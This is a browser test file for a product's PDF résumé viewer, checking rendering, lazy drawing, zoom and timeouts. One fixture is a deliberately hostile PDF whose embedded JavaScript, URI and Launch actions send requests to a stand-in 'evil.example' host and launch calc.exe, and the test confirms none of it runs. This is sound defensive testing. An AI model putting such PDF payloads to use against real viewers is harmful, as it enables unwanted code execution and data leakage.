// Only with --all: hostile PDFs in the view alone; applications.test.ts shows a résumé in the product.
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { extname, join } from 'node:path';
import type { Page } from 'playwright-core';
import { build } from 'vite';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { checkPdf } from '../api/src/core/pdf/pdf.ts';
import { makePdf, nestedForms, pdfStream } from '../api/test/pdf-samples.ts';
import { startWorld, type World } from './support/world.ts';

// The view alone, on a page of the product’s own origin, under its Content-Security-Policy.

let world: World;
let folder: string;
let policy: string;
beforeAll(async () => {
  world = await startWorld();
  folder = await mkdtemp(join(tmpdir(), 'encore-pdf-page-'));
  await build({
    configFile: false,
    root: new URL('./support/pdf-page/', import.meta.url).pathname,
    base: './',
    logLevel: 'error',
    build: { outDir: folder, emptyOutDir: true, assetsInlineLimit: 0, target: 'es2022' },
  });
  policy = (await fetch(world.address('/'))).headers.get('content-security-policy') ?? '';
  expect(policy).toContain("script-src 'self'");
});
afterAll(async () => {
  await world.end();
  await rm(folder, { recursive: true, force: true });
});

const types: Readonly<Record<string, string>> = { '.html': 'text/html', '.css': 'text/css', '.pdf': 'application/pdf' };

/** Serves the page as the product does, with the policy’s nonce on a style. */
const withNonce = (page: string) =>
  page.replace('</head>', `<style nonce="${/'nonce-([^']+)'/.exec(policy)?.[1]}"></style></head>`);

/** Opens the view with a file, and records every request of the page. */
async function show(
  file: Buffer,
  options: Parameters<World['newPage']>[0] = {},
  prepare: (page: Page) => Promise<unknown> = async () => {},
) {
  const { page, context, faults } = await world.newPage(options);
  const asked: string[] = [];
  const noticed: string[] = [];
  context.on('request', (request) => asked.push(request.url()));
  context.on('page', (other) => noticed.push(`opened ${other.url()}`));
  page.on('dialog', (dialog) => {
    noticed.push(`said ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('download', () => noticed.push('downloaded'));
  page.on('console', (message) => message.type() === 'error' && noticed.push(message.text()));
  await context.route('**/pdf-page/**', async (route) => {
    const name = new URL(route.request().url()).pathname.split('/pdf-page/')[1] || 'index.html';
    const content = name === 'file.pdf' ? file : await readFile(join(folder, name));
    const body = name === 'index.html' ? withNonce(content.toString()) : content;
    const headers = { 'content-type': types[extname(name)] ?? 'text/javascript', 'content-security-policy': policy };
    await route.fulfill({ body, headers });
  });
  await prepare(page);
  await page.goto(world.address('/pdf-page/'));
  return { page, faults, asked, noticed };
}

/** Counts the dark pixels of a page’s picture. */
const inkOf = (page: Page, number: number) =>
  page.evaluate((index) => {
    const canvas = document.querySelectorAll('canvas')[index];
    if (!canvas?.width) return 0;
    const points = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data ?? [];
    return points.filter((value, at) => at % 4 === 0 && value < 128 && (points[at + 3] ?? 0) > 128).length;
  }, number - 1);

const script =
  "<< /S /JavaScript /JS (app.alert\\('ran'\\); this.submitForm\\('https://evil.example/js'\\); fetch\\('https://evil.example/fetch'\\)) >>";
const hostile = makePdf({
  catalog: `/OpenAction ${script} /Names << /JavaScript << /Names [(a) ${script}] >> >> /AcroForm << /Fields [7 0 R] >>`,
  page: `/AA << /O << /S /URI /URI (https://evil.example/open) >> >> /Annots [6 0 R 7 0 R]`,
  more: [
    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (calc.exe) /Next << /S /URI /URI (https://evil.example/link) >> >> >>',
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 595 842] /AA << /E ${script} /Fo ${script} >> >>`,
  ],
});

test('in a PDF with scripts, a program and addresses nothing runs, nothing can be clicked and nothing is requested', async () => {
  const { page, faults, asked, noticed } = await show(hostile);
  await page.getByText('Asha Rao').waitFor({ state: 'attached' });
  await expect.poll(() => inkOf(page, 1)).toBeGreaterThan(100);
  const paper = page.getByRole('region', { name: 'Page 1 of 1' });
  await paper.hover();
  await paper.click({ position: { x: 200, y: 200 } });
  await page.keyboard.press('Tab');
  await page.keyboard.press('Enter');
  expect(await paper.locator('a, input, button').count()).toBe(0);
  // Leave time for anything that would happen by itself.
  await page.waitForLoadState('networkidle');
  const elsewhere = asked.filter((url) => !url.startsWith(world.address('/pdf-page/')));
  expect([elsewhere, noticed, faults]).toEqual([[], [], []]);
  expect(page.url()).toBe(world.address('/pdf-page/'));
});

test('pages are drawn when they come near, at full width, and free their memory afterwards', async () => {
  const count = 30;
  const pages = `<< /Type /Pages /Count ${count} /Kids [${Array.from({ length: count }, (_, index) => `${index + 6} 0 R`).join(' ')}] >>`;
  const more = Array.from(
    { length: count },
    () =>
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
  );
  const { page, noticed, faults } = await show(makePdf({ pages, more }), { viewport: { width: 375, height: 700 } });
  await page.getByText('30 pages').waitFor();
  await expect.poll(() => inkOf(page, 1)).toBeGreaterThan(50);
  expect(await inkOf(page, 20)).toBe(0);
  const region = page.getByRole('region', { name: 'Résumé of Asha Rao' });
  await region.focus();
  await page.keyboard.press('End');
  await expect.poll(() => inkOf(page, 30)).toBeGreaterThan(50);
  await expect.poll(() => inkOf(page, 1)).toBe(0);
  const widths = () =>
    page.evaluate(() => [
      document.documentElement.scrollWidth,
      document.querySelectorAll('canvas')[29]?.clientWidth ?? 0,
    ]);
  const [whole = 0, before = 0] = await widths();
  expect(whole).toBeLessThanOrEqual(375);
  await page.getByRole('button', { name: 'Zoom in' }).click();
  await expect.poll(async () => (await widths())[1]).toBe(Math.round(before * 1.25));
  expect([noticed, faults]).toEqual([[], []]);
});

test('a PDF printed by Chromium is accepted and shown; a file that is not a PDF is not', async () => {
  const { page: printer, context } = await world.newPage();
  await printer.setContent(
    '<h1 id="JavaScript">Asha Rao, HTML/JS (ES6)</h1><a href="https://acme.example">Work</a> <a href="#JavaScript">Up</a>',
  );
  const path = join(folder, 'printed.pdf');
  const printed = await printer.pdf({ path, tagged: true, outline: true });
  await context.close();
  expect(await checkPdf(path)).toBeNull();
  const { page, noticed } = await show(printed);
  await page.getByText('HTML/JS').first().waitFor({ state: 'attached' });
  await expect.poll(() => inkOf(page, 1)).toBeGreaterThan(100);
  expect(noticed).toEqual([]);
  const broken = await show(Buffer.from(pdfStream('no page')));
  await broken.page.getByText('This PDF could not be shown').waitFor();
});

test('a page that takes too long is abandoned, along with its worker', async () => {
  // Stored before uploads were checked for this.
  const { page } = await show(makePdf(nestedForms(Array.from({ length: 10 }, () => 10))), {}, (one) =>
    one.clock.install(),
  );
  await page.getByText('1 page', { exact: true }).waitFor();
  await page.clock.runFor(16_000);
  await page.getByText('This PDF is too complex to show here').waitFor();
  await expect.poll(() => page.workers().length).toBe(0);
});
